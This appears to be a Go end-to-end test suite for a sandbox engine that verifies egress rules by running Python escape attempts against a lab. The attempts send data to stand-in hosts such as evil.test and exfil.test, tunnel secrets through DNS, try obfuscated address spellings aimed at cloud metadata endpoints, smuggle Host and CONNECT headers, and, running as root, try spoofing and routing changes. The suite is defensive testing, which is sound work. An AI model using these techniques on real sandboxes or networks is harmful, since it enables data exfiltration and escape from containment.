package e2e

import (
	"context"
	"fmt"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/brig-run/brig"
	"github.com/brig-run/brig/engine"
	"github.com/brig-run/brig/internal/attack"
)

// attempts defines helper functions for attacks from a sandbox. Each helper prints its result.
const attempts = `
import socket, struct, ssl, os, sys, random
socket.setdefaulttimeout(2)
def tcp(host, port, data=b"leak"):
    try:
        s = socket.create_connection((host, port), timeout=2)
        s.sendall(data); s.shutdown(socket.SHUT_WR)
        out = b""
        while True:
            b = s.recv(4096)
            if not b: break
            out += b
        print("GOT", out)
    except Exception as e:
        print("NO", type(e).__name__, e)
def udp(host, port, data=b"leak", wait=0.2):
    try:
        fam, _, _, _, at = socket.getaddrinfo(host, port, type=socket.SOCK_DGRAM)[0]
        s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(wait); s.sendto(data, at)
        print("GOT", s.recv(2000))
    except Exception as e:
        print("NO", type(e).__name__, e)
def raw(proto, host, data=b"leak" * 10, family=socket.AF_INET):
    try:
        s = socket.socket(family, socket.SOCK_RAW, proto); s.sendto(data, (host, 0)); print("sent")
    except Exception as e:
        print("NO", type(e).__name__, e)
def question(name, kind=1, n=1):
    q = struct.pack(">HHHHHH", random.randrange(65536), 0x100, n, 0, 0, 0)
    for _ in range(n):
        q += b"".join(bytes([len(l)]) + l for l in name) + b"\0" + struct.pack(">HH", kind, 1)
    return q
def labels(name): return [l.encode() for l in name.split(".")]
def dns(server, name, kind=1):
    q = question(labels(name) if isinstance(name, str) else name, kind)
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(0.5); s.sendto(q, (server, 53))
        b = s.recv(2000); print("rcode", b[3] & 15, "answers", struct.unpack(">H", b[6:8])[0])
    except Exception as e:
        print("NO", type(e).__name__, e)
def dnstcp(server, name):
    q = question(labels(name)); tcp(server, 53, struct.pack(">H", len(q)) + q)
def tls(name, port, sni, data=b"GET / HTTP/1.1\r\nHost: x\r\n\r\n"):
    c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
    try:
        s = c.wrap_socket(socket.create_connection((name, port), timeout=2), server_hostname=sni); s.sendall(data); print("GOT", s.recv(100))
    except Exception as e:
        print("NO", type(e).__name__, e)
`

// escape is one attempt to send data out of a sandbox.
type escape struct{ id, code string }

// spellings are alternative spellings of addresses and names, which parsers interpret
// differently.
var spellings = []string{
	"2130706433", "0x7f000001", "0177.0.0.1", "127.1", "127.0.1", "0", "0.0.0.0", "::", "::ffff:127.0.0.1", "::ffff:10.0.0.1",
	"::10.0.0.1", "64:ff9b::7f00:1", "64:ff9b::a00:1", "2002:a00:1::1", "fe80::1%eth0", "fe80::1%1", "１０.０.０.１", "10。0。0。1",
	"2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", "::ffff:169.254.169.254", "::ffff:a9fe:a9fe",
	"metadata.google.internal", "metadata", "instance-data", "localhost", "localhost.", "ip6-localhost", "kubernetes.default.svc",
	"ok.test.evil.test", "evilok.test", "ok.test@evil.test", "evil.test#ok.test", "ok.test\\x00.evil.test", "ok.test%00.evil.test",
	"ok.test .evil.test", "ok.test..", ".ok.test", "xn--ok-test", "OK.TEST.EVIL.TEST", "198.18.0.1", "198.18.0.16", "224.0.0.1", "255.255.255.255",
}

// escapeAttempts returns attempts that must all fail under rules that allow only ok.test.
func escapeAttempts() []escape {
	var out []escape
	add := func(id, format string, args ...any) { out = append(out, escape{id, fmt.Sprintf(format, args...)}) }
	for _, a := range sinks {
		for _, p := range sinkPorts {
			add("NET-01", "tcp(%q, %d)", a, p)
		}
		add("NET-09", "udp(%q, 443)", a)
		add("NET-06", "dns(%q, 'secret.exfil.test')", a)
	}
	for _, s := range spellings {
		add("NET-02", "tcp(\"%s\", 80)", s)
	}
	for _, name := range []string{
		"secret.exfil.test", "c2VjcmV0.exfil.test", "evil.test", "ok.test.exfil.test", strings.Repeat("a", 60) + ".exfil.test",
		"1.0.0.10.in-addr.arpa", "_acme-challenge.exfil.test", "localhost.exfil.test",
	} {
		for _, kind := range []int{1, 28, 16, 15, 255, 10, 65, 12, 33, 252} {
			add("NET-06", "dns('198.18.0.1', %q, %d)", name, kind)
		}
		add("NET-06", "dnstcp('198.18.0.1', %q)", name)
		add("NET-06", "print(socket.getaddrinfo(%q, 80))", name)
	}
	add("NET-06", "dns('198.18.0.1', [b'ok', b'test\\0', b'exfil', b'test'])")
	add("NET-06", "dns('198.18.0.1', [b'ok.test', b'exfil', b'test'])")
	add("NET-06", "udp('198.18.0.1', 53, question(labels('evil.test'), 1, 2))")
	add("NET-06", "udp('198.18.0.1', 53, b'\\xff' * 500)")
	add("NET-06", "dnstcp('%s', 'secret.exfil.test')", evilAddr)
	add("NET-06", "tcp('%s', 853)", evilAddr)
	for _, p := range []int{1, 2, 41, 47, 50, 132, 255} {
		add("NET-09", "raw(%d, %q)", p, evilAddr)
		add("NET-08", "raw(%d, '2001:db8::66', family=socket.AF_INET6)", p)
	}
	for _, p := range []int{53, 123, 443, 5353, 1900} {
		add("NET-09", "udp('224.0.0.251', %d)", p)
		add("NET-09", "udp('255.255.255.255', %d)", p)
	}
	// Connect to an allowed name, and then request another name.
	for _, sni := range []string{"'evil.test'", "'xok.test'", "'ok.test.evil.test'", "None", "'" + evilAddr + "'"} {
		add("NET-04", "tls('ok.test', 443, %s)", sni)
	}
	for _, head := range []string{
		"GET / HTTP/1.1\\r\\nHost: evil.test", "GET http://evil.test/ HTTP/1.1\\r\\nHost: ok.test", "CONNECT evil.test:443 HTTP/1.1\\r\\nHost: ok.test",
		"CONNECT ok.test@evil.test:80 HTTP/1.1\\r\\nHost: evil.test", "GET / HTTP/1.1\\r\\nHost: ok.test\\r\\nHost: evil.test", "GET / HTTP/1.0",
		"GET / HTTP/1.1\\r\\nHost: ok.test\\0.evil.test", "GET / HTTP/1.1\\r\\nHost: ok.test evil.test", "GET / HTTP/1.1\\r\\nHost: evil.test\\r\\nX: ok.test",
	} {
		add("NET-05", "tcp('ok.test', 80, b'%s\\r\\n\\r\\n')", head)
	}
	for _, n := range []string{"rebind.ok.test", "private.ok.test", "mapped.ok.test", "meta.ok.test", "loop.ok.test", "own.ok.test", "six.ok.test", "zero.ok.test"} {
		add("NET-07", "for _ in range(6): tcp(%q, 80, b'GET / HTTP/1.1\\r\\nHost: %s\\r\\n\\r\\n')", n, n)
	}
	add("NET-10", "tcp('ok.test', 2744)")
	return out
}

// escapeRules are the egress rules for the attempts.
var escapeRules = brig.Egress{Rules: []brig.EgressRule{{Host: "ok.test"}, {Host: "*.ok.test"}, {CIDR: good}}}

// TestEgressEscapes verifies that a sandbox's traffic arrives only at allowed
// destinations, and that the resolver is queried only for allowed names.
//
//suite:part egress
func TestEgressEscapes(t *testing.T) {
	if !runInLab(t) {
		return
	}
	l := newEscapeLab(t)
	e, ctx := engineWith(t, engine.Options{Egress: engine.EgressOptions{Resolver: l.resolver()}})
	l.checkEscapes(t, e, ctx, brig.Spec{})
}

// newEscapeLab returns a lab with names that resolve to forbidden addresses.
func newEscapeLab(t *testing.T) *lab {
	t.Helper()
	l := newEgressLab(t)
	l.name("ok.test", good)
	l.name("rebind.ok.test", "10.0.0.1", "127.0.0.1", "169.254.169.254", "203.0.113.5")
	l.name("private.ok.test", "192.168.7.7", "10.0.0.1")
	l.name("mapped.ok.test", "::ffff:10.0.0.1", "64:ff9b::a00:1", "2002:a00:1::1")
	l.name("meta.ok.test", "169.254.169.254", "fd00:ec2::254", "100.100.100.200", "168.63.129.16")
	l.name("loop.ok.test", "127.0.0.1", "::1", "127.0.0.2")
	l.name("own.ok.test", own)
	l.name("six.ok.test", "fd00::7", "fec0::1", "fe80::1")
	l.name("zero.ok.test", "0.0.0.0", "::")
	l.name("evil.test", evilAddr)
	l.name("secret.exfil.test", evilAddr)
	l.serve(80, respond)
	l.serve(443, respond)
	return l
}

// checkEscapes runs the attempts in a sandbox, and verifies with a control that the lab detects
// successful attempts.
func (l *lab) checkEscapes(t *testing.T, e *engine.Engine, ctx context.Context, spec brig.Spec) {
	spec.Egress, spec.TTL, spec.Limits.Memory = escapeRules, 20*time.Minute, brig.GiB
	box, err := e.Create(ctx, spec)
	if err != nil {
		t.Fatal(err)
	}
	name := box.Spec.Name
	t.Cleanup(func() {
		if err := e.Remove(context.WithoutCancel(ctx), name); err != nil {
			t.Error(err)
		}
	})
	try := func(code string) string {
		r, err := e.RunCode(ctx, name, brig.Code{Language: brig.Python, Source: code, Timeout: time.Minute}, nil)
		if err != nil {
			t.Fatalf("%s: %v", code, err)
		}
		return string(r.Stdout.Head) + string(r.Stderr.Head)
	}
	try(attempts)
	t.Run("allowed", func(t *testing.T) {
		for _, code := range []string{"tcp('ok.test', 80, b'GET / HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n')", "tcp('" + good + "', 443)"} {
			if out := try(code); !strings.Contains(out, "good") {
				t.Errorf("%s: %s", code, out)
			}
		}
		if got := l.newArrivals(); len(got) > 0 {
			t.Errorf("what is allowed is not quiet: %q", got)
		}
	})
	list := escapeAttempts()
	t.Run("escapes", func(t *testing.T) {
		for i, x := range list {
			out := try(x.code)
			if strings.Contains(out, "sink") {
				t.Errorf("%s %d: %s: %s", x.id, i, x.code, out)
			}
			got := l.newArrivals()
			if len(got) > 0 {
				t.Errorf("%s %d: %s: %q arrived", x.id, i, x.code, got)
			}
			attack.RecordCase(x.id, x.code, len(got) > 0 || strings.Contains(out, "sink"))
		}
		t.Logf("%d tried", len(list))
	})
	t.Run("as root", func(t *testing.T) { escapesAsRoot(t, e, ctx, name, l) })
	t.Run("no rules", func(t *testing.T) {
		if _, err := e.SetEgress(ctx, name, brig.Egress{}); err != nil {
			t.Fatal(err)
		}
		for _, code := range []string{"tcp('ok.test', 80)", "tcp('" + good + "', 80)", "dns('198.18.0.1', 'ok.test')", "udp('" + evilAddr + "', 53)"} {
			out := try(code)
			escaped := strings.Contains(out, "GOT") || strings.Contains(out, "rcode")
			if escaped {
				t.Errorf("%s: %s", code, out)
			}
			attack.RecordCase("NET-13", "after all rules are taken away: "+code, escaped)
		}
	})
	// The control: the same attempts succeed if the rules allow the addresses.
	t.Run("control", func(t *testing.T) {
		open := brig.Egress{Rules: []brig.EgressRule{{Host: "*"}}}
		for _, a := range sinks {
			open.Rules = append(open.Rules, brig.EgressRule{CIDR: a})
		}
		admin := brig.WithActor(ctx, brig.Actor{Name: "ann", Tenant: "acme", Role: brig.Admin})
		if _, err := e.SetEgress(admin, name, open); brig.KindOf(err) != brig.InvalidArgument {
			t.Errorf("who does not run the server opens everything: %v", err)
		}
		if _, err := e.SetEgress(ctx, name, open); err != nil {
			t.Fatal(err)
		}
		for _, x := range []escape{
			{"NET-01", "tcp('" + evilAddr + "', 80)"}, {"NET-01", "tcp('169.254.169.254', 80)"}, {"NET-01", "tcp('10.0.0.1', 22)"},
			{"NET-02", "tcp('::ffff:10.0.0.1', 80)"}, {"NET-04", "tls('evil.test', 443, 'evil.test')"},
			{"NET-05", "tcp('evil.test', 80, b'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n')"},
			{"NET-06", "print(socket.getaddrinfo('evil.test', 80)); tcp('evil.test', 80)"},
			{"NET-07", "tcp('meta.ok.test', 80)"}, {"NET-08", "tcp('six.ok.test', 80)"}, {"NET-10", "tcp('" + own + "', 2744)"},
			{"NET-13", "tcp('evil.test', 443)"},
		} {
			out := try(x.code)
			got := l.awaitArrivals()
			if len(got) == 0 {
				t.Errorf("%s: %s: %s: nothing is seen to arrive: the lab is blind", x.id, x.code, out)
			}
			attack.RecordMutant(x.id, x.code, "the rules", len(got) > 0)
		}
		// Rules cannot allow UDP, so send a UDP packet from the lab, bypassing Brig.
		for _, at := range []string{evilAddr + ":443", "10.0.0.1:53"} {
			if c, err := net.Dial("udp", at); err == nil {
				_, _ = c.Write([]byte("x"))
				c.Close()
			}
			got := l.awaitArrivals()
			if len(got) == 0 {
				t.Errorf("a packet to %s is not seen: the lab is blind", at)
			}
			attack.RecordMutant("NET-09", "a packet to "+at, "the sandbox", len(got) > 0)
		}
	})
}

// escapesAsRoot verifies that attacks fail that require privileges which root lacks in a sandbox.
func escapesAsRoot(t *testing.T, e *engine.Engine, ctx context.Context, name string, l *lab) {
	for _, code := range []string{
		"raw(1, '" + evilAddr + "')", "raw(255, '" + evilAddr + "')", "raw(17, '8.8.8.8')",
		"s=socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)); s.bind(('eth0',0)); s.send(b'x'*100)",
		"s=socket.socket(); s.setsockopt(0, 19, 1); s.bind(('203.0.113.1', 0)); s.connect(('" + good + "', 80)); print('spoofed')",
		"s=socket.socket(); s.setsockopt(0, 15, 1); s.bind(('203.0.113.1', 0)); s.connect(('" + good + "', 80)); print('spoofed')",
		"import fcntl; f=open('/dev/net/tun','r+b',buffering=0); fcntl.ioctl(f, 0x400454ca, struct.pack('16sH','eth0'.encode(), 0x1001)); f.write(b'x'*40)",
		"os.system('ip addr add 203.0.113.1/32 dev eth0; ip route add 169.254.169.254 dev lo; ip link set eth0 down')",
		"os.unshare(os.CLONE_NEWNET) if hasattr(os,'unshare') else None; tcp('" + evilAddr + "', 80)",
	} {
		res, err := e.Exec(ctx, name, brig.Command{Argv: []string{"python3", "-c", attempts + code}, User: "root", Timeout: 20 * time.Second}, brig.IO{})
		if err != nil {
			t.Fatal(err)
		}
		if out := string(res.Stdout.Head); strings.Contains(out, "spoofed") || strings.Contains(out, "sent") && strings.Contains(code, "255") {
			t.Errorf("%s: %s", code, out)
		}
		if got := l.newArrivals(); len(got) > 0 {
			t.Errorf("%s: %q arrived", code, got)
			attack.RecordCase("NET-12", "as root: "+code, true)
		} else {
			attack.RecordCase("NET-12", "as root: "+code, false)
		}
	}
}
